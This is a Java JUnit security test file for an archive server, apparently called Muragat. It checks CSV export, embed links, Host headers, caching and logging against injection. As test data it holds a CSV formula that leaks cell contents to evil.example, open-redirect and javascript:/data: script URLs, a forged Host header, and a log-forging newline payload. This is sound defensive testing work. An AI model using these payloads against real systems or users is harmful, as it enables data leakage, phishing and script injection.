package kz.muragat.server.redteam;

import static kz.muragat.server.redteam.RedTeam.q;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import kz.muragat.server.iiif.IiifIds;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Issue 18 item 11: what an answer carries into other programs — a spreadsheet, a browser, a
 * shared cache, a log — must not be turned against their users.
 */
class InjectionAttacksTest extends AttackTest {
  @Test
  void csvCellsNeverStartAFormula() throws Exception {
    for (RedTeam.Caller c : RedTeam.CALLERS) {
      RedTeam.Answer a = rt.get(c, "/api/export?format=csv&q=" + q("учитель"));
      assertEquals(200, a.status());
      List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(a.body().replace("\uFEFF", ""))).getRecords();
      boolean sawFormula = false;
      for (CSVRecord r : rows) {
        for (String cell : r.values()) {
          assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell starting a formula: " + cell);
        }
        if (r.get("id").equals(RedTeam.FORMULA)) {
          sawFormula = true;
          assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", r.get("title"));
          assertEquals("'@SUM(1+1)", r.get("archive"));
          assertEquals("'-2+3", r.get("fond"));
          assertEquals("'+cmd", r.get("doc_type"));
        }
      }
      assertTrue(sawFormula, a.body());
    }
    // the JSON export and the API keep the values as written
    assertTrue(rt.get(RedTeam.ANONYMOUS, "/api/export?format=json&q=" + q("учитель")).body().contains("\"title\":\"=HYPERLINK("));
    RedTeam.attack();
  }

  @Test
  void theEmbedPageLinksResultsOnlyToMuragatOrAConfiguredOrigin() throws Exception {
    Map<String, Integer> links =
        Map.ofEntries(
            Map.entry("https://evil.example/phish?id={id}", 400),
            Map.entry("http://memorial.example.evil.example/?id={id}", 400),
            Map.entry("https://memorial.example@evil.example/?id={id}", 400),
            Map.entry("//evil.example/?id={id}", 400),
            Map.entry("/\t/evil.example/?id={id}", 400),
            Map.entry("\\\\evil.example/?id={id}", 400),
            Map.entry("{server}.evil.example/?id={id}", 400),
            Map.entry("{server}@evil.example/?id={id}", 400),
            Map.entry("javascript:alert(document.domain)//{id}", 400),
            Map.entry("data:text/html,<script>alert(1)</script>{id}", 400),
            Map.entry("/?doc={id}&page={page}", 200),
            Map.entry("{server}/?doc={id}&page={page}&q={q}", 200),
            Map.entry("viewer?doc={id}", 200),
            Map.entry(RedTeam.CORS_ORIGIN + "/doc?id={id}&page={page}", 200));
    for (var e : links.entrySet()) {
      RedTeam.Answer a = rt.get(RedTeam.ANONYMOUS, "/embed?lang=ru&link=" + q(e.getKey()));
      assertEquals((int) e.getValue(), a.status(), e.getKey() + " -> " + a.body());
      RedTeam.attack();
    }
    assertEquals(200, rt.get(RedTeam.ANONYMOUS, "/embed?lang=kk&size=5").status(), "no link: Muragat's own viewer");
  }

  @Test
  void aForgedHostHeaderIsNeverCopiedIntoAbsoluteLinks() throws Exception {
    String key = IiifIds.key("open.txt");
    String mixed = IiifIds.key(RedTeam.MIXED);
    for (String path :
        List.of("/opensearch.xml", "/iiif/" + mixed + "/manifest", "/iiif/image/" + IiifIds.imageId(RedTeam.MIXED, 2) + "/info.json",
            "/iiif/" + mixed + "/search?q=" + q("уезда"), "/iiif/" + mixed + "/search1?q=" + q("уезда"), "/iiif/" + key + "/manifest")) {
      String answer =
          RedTeam.raw(rt.server, "GET " + path + " HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nConnection: close\r\n\r\n");
      assertTrue(answer.startsWith("HTTP/1.1 200") || answer.startsWith("HTTP/1.1 404"), path + ": " + answer);
      assertFalse(answer.contains("evil.example"), path + " echoed the forged host:\n" + answer);
      if (answer.startsWith("HTTP/1.1 200") && !path.equals("/iiif/" + key + "/manifest")) {
        assertTrue(answer.contains("http://127.0.0.1:" + rt.server.port() + "/"), path + ": the address the connection arrived at\n" + answer);
      }
      RedTeam.attack();
    }
  }

  @Test
  void answersToTokenHoldersAreNotKeptBySharedCaches() throws Exception {
    // anonymous: public material, cacheable by anyone
    assertFalse(rt.get(RedTeam.ANONYMOUS, "/api/search?q=" + q(RedTeam.PUBLIC_WORD)).header("Cache-Control").contains("private"));
    for (RedTeam.Caller c : List.of(RedTeam.RESTRICTED, RedTeam.CLOSED, RedTeam.ADMIN)) {
      // a token holder's answer is private even when it holds public material only
      String publicOnly = rt.get(c, "/api/search?q=" + q(RedTeam.PUBLIC_WORD)).header("Cache-Control");
      assertTrue(publicOnly.contains("private"), c.name() + ": " + publicOnly);
      // and not stored at all when it holds material anonymous callers may not see
      for (String path :
          List.of("/api/search?q=" + q(RedTeam.RESTRICTED_WORD), "/api/documents/part.txt", "/api/documents/part.txt/pages/1/image",
              "/api/documents/part.txt/pages/1/hits?q=" + q(RedTeam.RESTRICTED_WORD), "/api/export?format=csv&q=" + q(RedTeam.RESTRICTED_WORD),
              "/api/documents/" + RedTeam.MIXED, "/api/search?q=" + q(RedTeam.MIXED_PAGES.get(3)[1]))) {
        RedTeam.Answer a = rt.get(c, path);
        assertTrue(a.status() == 200 || a.status() == 404, path + " " + a.status());
        if (a.status() == 200) assertEquals("private, no-store", a.header("Cache-Control"), c.name() + " " + path);
      }
      RedTeam.attack();
    }
  }

  /** The production logging setup (logback.xml) writes a file name with a newline on one line. */
  @Test
  void aFileNameWithANewlineCannotForgeALogLine() throws Exception {
    ByteArrayOutputStream captured = new ByteArrayOutputStream();
    PrintStream err = System.err;
    LoggerContext context = new LoggerContext();
    context.setMDCAdapter(new ch.qos.logback.classic.util.LogbackMDCAdapter());
    try {
      System.setErr(new PrintStream(captured, true, StandardCharsets.UTF_8));
      JoranConfigurator config = new JoranConfigurator();
      config.setContext(context);
      config.doConfigure(InjectionAttacksTest.class.getResource("/logback.xml"));
      context.getLogger("kz.muragat.indexer.pipeline.Indexer").warn("skipped {}: {}", RedTeam.NEWLINE_NAME, "empty file\r\n\u001b[2Jcleared");
    } finally {
      context.stop();
      System.setErr(err);
    }
    String out = captured.toString(StandardCharsets.UTF_8);
    StringBuilder status = new StringBuilder();
    context.getStatusManager().getCopyOfStatusList().forEach(st -> status.append(st).append('\n'));
    assertEquals(1, out.lines().count(), out + "\n" + status);
    assertTrue(out.contains("skipped evil\\n12:00:00 ERROR Indexer - forged line.txt: empty file\\r\\n\\u001B[2Jcleared"), out);
    RedTeam.attack();
  }
}
